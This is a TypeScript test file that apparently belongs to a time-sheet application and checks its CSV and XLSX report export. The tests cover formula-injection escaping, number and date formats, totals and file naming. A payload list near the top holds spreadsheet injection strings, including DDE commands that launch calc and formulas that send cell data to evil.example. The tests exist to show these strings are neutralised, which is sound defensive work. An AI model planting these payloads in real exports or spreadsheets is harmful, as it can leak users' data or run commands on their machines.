import { csvText } from "@tuntikirja/contract/table-files/csv-text.ts";
import { usualSeparator } from "@tuntikirja/contract/table-files/write-csv.ts";
import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import { expect, test } from "vitest";
import { buffer } from "node:stream/consumers";
import { inflateRawSync } from "node:zlib";
import { reportFile } from "./report-file.ts";
import { type Table, tableOf } from "./table.ts";

/** What people are known to write into time sheets that are opened in a spreadsheet later. Threat T12. */
const PAYLOADS = [
	"=1+1",
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://evil.example?x="&A1,"Open")',
	'=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
	'=DDE("cmd";"/C calc";"!A0")',
	'=WEBSERVICE("https://evil.example/"&B2)',
	"=SUM(A1:A9)*2",
	"+1+1",
	"+cmd|' /C notepad'!A0",
	"-1+1",
	"-2+3+cmd|' /C calc'!A0",
	"-7.5",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"@import",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\r\n=1+1",
	"\0=1+1",
	"＝1+1",
	"＋1+1",
	"－1+1",
	"＠SUM(1)",
	'=1+1";=2+2',
	"=1+1,=2+2",
	"=1+1;=2+2",
	'="a" & "b"',
	'";=1+1;"',
	"a\n=1+1",
	"'=1+1",
	'ordinary, with a comma; a semicolon and a "quote"',
	"Mäkelä työsti ÅÄÖ: 100 % 🙂",
] as const;

/** A CSV file may be read with another separator, and has a line a row: what it says of texts that hold either. */
const IN_CSV: Readonly<Record<string, string>> = {
	"\t=1+1": "'\t'=1+1",
	"\r=1+1": "' =1+1",
	"\n=1+1": "' =1+1",
	"\r\n=1+1": "' =1+1",
	'=1+1";=2+2': `'=1+1";'=2+2`,
	"=1+1,=2+2": "'=1+1,'=2+2",
	"=1+1;=2+2": "'=1+1;'=2+2",
	'";=1+1;"': `";'=1+1;"`,
	"a\n=1+1": "a =1+1",
};

interface Row {
	readonly note: string;
	readonly date: string;
	readonly hours: number | null;
	readonly price: number;
}

const tableIn = tableOf<Row, { hours: number }>({ en: "Lines: all/of [it]", fi: "Työrivit" }, [
	{ heading: { en: "Note", fi: "=Muistiinpano" }, kind: "text", of: ({ note }) => note },
	{ heading: { en: "Date", fi: "Päivä" }, kind: "date", of: ({ date }) => date },
	{
		heading: { en: "Hours", fi: "Tunnit" },
		kind: "hours",
		of: ({ hours }) => hours,
		total: ({ hours }) => hours,
	},
	{ heading: { en: "Price", fi: "Hinta" }, kind: "money", of: ({ price }) => price },
]);

const rows = PAYLOADS.map((note): Row => ({ note, date: "2026-06-15", hours: -7.5, price: 1234.5 }));
const range = { startDate: "2026-06-01", endDate: "2026-06-30" };
const FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/;

async function wholeFile(table: Table, format: "csv" | "xlsx", language: "en" | "fi") {
	const form = { language, separator: usualSeparator(language) };
	const { body, ...others } = await reportFile(table, format, form, range);
	return { ...others, body: await buffer(body) };
}

async function csvLines(table: Table, language: "en" | "fi"): Promise<string[][]> {
	const { body } = await wholeFile(table, "csv", language);
	return parse(body, { bom: true, delimiter: language === "fi" ? ";" : "," });
}

async function xlsxLines(table: Table, language: "en" | "fi"): Promise<unknown[][]> {
	return readSheet((await wholeFile(table, "xlsx", language)).body, { trim: false });
}

test("at least 25 payloads are tried", () => {
	expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
	expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
});

test.each(["en", "fi"] as const)("in CSV (%s) no text evaluates, and each is complete", async (language) => {
	const lines = await csvLines(tableIn(language, rows), language);

	const notes = lines.slice(1).map(([note]) => note);
	expect(notes).toEqual(PAYLOADS.map((text) => IN_CSV[text] ?? csvText(text)));
	for (const line of lines) expect(line[0]).not.toMatch(FORMULA);
	expect(lines.every((line) => line.length === 4)).toBe(true);
});

/** A file in the workbook, which is a ZIP archive: after 30 bytes and its name, each file is deflated. */
function partOf(workbook: Buffer, name: string): string {
	return inflateRawSync(workbook.subarray(workbook.indexOf(name) + name.length)).toString();
}

/** A workbook has one kind of line end. */
const inLines = (text: unknown) => String(text).replaceAll(/\r\n?/g, "\n");

test.each(["en", "fi"] as const)(
	"in XLSX (%s) each text is as it was written, in a cell of the type text, and no cell is a formula",
	async (language) => {
		const [, ...lines] = await xlsxLines(tableIn(language, rows), language);
		expect(lines.map(([note]) => inLines(note))).toEqual(
			PAYLOADS.map((text) => inLines(text.replace("\0", ""))),
		);

		const { body } = await wholeFile(tableIn(language, rows), "xlsx", language);
		const sheet = partOf(body, "xl/worksheets/sheet1.xml");
		expect(sheet).not.toMatch(/<f[ />]/);
		const types = [...sheet.matchAll(/<c r="A\d+"[^>]*? t="(\w+)"/g)].map(([, type]) => type);
		expect(types).toEqual(Array.from({ length: PAYLOADS.length + 1 }, () => types[0]));
		expect(types[0]).toMatch(/^(?:s|inlineStr)$/);
	},
);

const SHIFTS = [
	{ start: "07:30", end: null, pause: 30, days: 12 },
	{ start: "22:00", end: "06:15", pause: 0, days: 2.5 },
];
const shifts = tableOf<(typeof SHIFTS)[number]>({ en: "Shifts", fi: "Vuorot" }, [
	{ heading: { en: "Start", fi: "Alkoi" }, kind: "time", of: ({ start }) => start },
	{ heading: { en: "End", fi: "Päättyi" }, kind: "time", of: ({ end }) => end },
	{ heading: { en: "Break", fi: "Tauko" }, kind: "number", of: ({ pause }) => pause },
	{ heading: { en: "Days", fi: "Päiviä" }, kind: "number", of: ({ days }) => days },
])("fi", SHIFTS);

test("times are times, and a whole number has no mark behind it", async () => {
	const day = (hours: number, minutes: number) => (hours * 60 + minutes) / 1440;
	const sheet = partOf((await wholeFile(shifts, "xlsx", "fi")).body, "xl/worksheets/sheet1.xml");
	const held = [...sheet.matchAll(/<v>([\d.]+)<\/v><\/c>/g)].map(([, value]) => Number(value)).slice(4);
	expect(held).toEqual([day(7, 30), 30, 12, day(22, 0), day(6, 15), 0, 2.5]);

	const styles = partOf((await wholeFile(shifts, "xlsx", "fi")).body, "xl/styles.xml");
	expect([...styles.matchAll(/formatCode="([^"]+)"/g)].map(([, code]) => code)).toEqual(["hh:mm"]);
	expect(await csvLines(shifts, "fi")).toEqual([
		["Alkoi", "Päättyi", "Tauko", "Päiviä"],
		["07:30", "", "30", "12"],
		["22:00", "06:15", "0", "2,5"],
	]);
});

test("−7.5 is a number in every file, and a date a date", async () => {
	const row: Row = { note: "work", date: "2026-06-05", hours: -7.5, price: 1234.5 };

	expect((await csvLines(tableIn("en", [row]), "en"))[1]).toEqual(["work", "2026-06-05", "-7.50", "1234.50"]);
	expect((await csvLines(tableIn("fi", [row]), "fi"))[1]).toEqual(["work", "05.06.2026", "-7,50", "1234,50"]);
	expect((await xlsxLines(tableIn("fi", [row]), "fi"))[1]).toEqual([
		"work",
		new Date("2026-06-05T00:00:00Z"),
		-7.5,
		1234.5,
	]);
});

test("R39 worked hours are exact in a workbook, and have their minutes beside in a CSV file", async () => {
	const worked = tableOf<number, number>({ en: "Worked", fi: "Tehdyt" }, [
		{ heading: { en: "Day", fi: "Päivä" }, kind: "text", of: () => "work" },
		{ heading: { en: "Hours", fi: "Tunnit" }, kind: "worked", of: (own) => own, total: (all) => all },
	]);
	const table = worked("fi", [20, 20, 20], 60);

	expect(await csvLines(table, "fi")).toEqual([
		["Päivä", "Tunnit", "Tunnit, min"],
		...Array(3).fill(["work", "0,33", "20"]),
		["Yhteensä", "1,00", "60"],
	]);
	const [, ...lines] = await xlsxLines(table, "fi");
	expect(lines.map(([, hours]) => hours)).toEqual([20 / 60, 20 / 60, 20 / 60, 1]);
});

test("headings speak the language, the last line holds the totals, and what there is not stays empty", async () => {
	const table = tableIn("fi", [{ note: "", date: "2026-06-05", hours: null, price: 0 }], { hours: 0.25 });

	const [headings, line, totals] = await csvLines(table, "fi");
	expect(headings).toEqual(["'=Muistiinpano", "Päivä", "Tunnit", "Hinta"]);
	expect(line).toEqual(["", "05.06.2026", "", "0,00"]);
	expect(totals).toEqual(["Yhteensä", "", "0,25", ""]);
	expect((await xlsxLines(table, "fi")).at(-1)).toEqual(["Yhteensä", null, 0.25, null]);
});

test("a file begins with a byte order mark, ends its lines as RFC 4180 says, and has a name that needs no escaping", async () => {
	const csv = await wholeFile(tableIn("fi", rows.slice(-1)), "csv", "fi");
	const xlsx = await wholeFile(tableIn("en", []), "xlsx", "en");

	expect([...csv.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	expect(csv.body.toString("utf8").split("\r\n")).toHaveLength(3);
	expect(csv.fileName).toBe("tyorivit-2026-06-01-2026-06-30.csv");
	expect(xlsx.fileName).toBe("lines-all-of-it-2026-06-01-2026-06-30.xlsx");
	expect(xlsx.body.subarray(0, 2).toString()).toBe("PK");
});

test("nothing is cut: ten thousand lines come out of either file", async () => {
	const many = Array.from({ length: 10_000 }, (_, index) => ({ ...rows[0], note: `line ${index}` }) as Row);

	expect(await csvLines(tableIn("en", many), "en")).toHaveLength(10_001);
	expect(await xlsxLines(tableIn("en", many), "en")).toHaveLength(10_001);
});
